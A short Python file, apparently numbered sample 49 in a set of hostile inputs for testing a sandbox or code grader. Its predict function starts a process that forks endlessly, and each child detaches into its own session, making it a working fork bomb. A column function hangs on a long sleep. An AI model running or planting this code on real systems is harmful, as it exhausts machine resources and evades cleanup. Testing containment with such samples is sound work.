"""49. Forks for ever, each child in a session of its own."""

import os


def double(x):
    while True:
        if os.fork() == 0:
            os.setsid()


def column(X):
    import subprocess

    return subprocess.run(["sleep", "1000"])


def predict(X):
    import multiprocessing

    multiprocessing.get_context("fork").Process(target=double, args=(0,)).start()
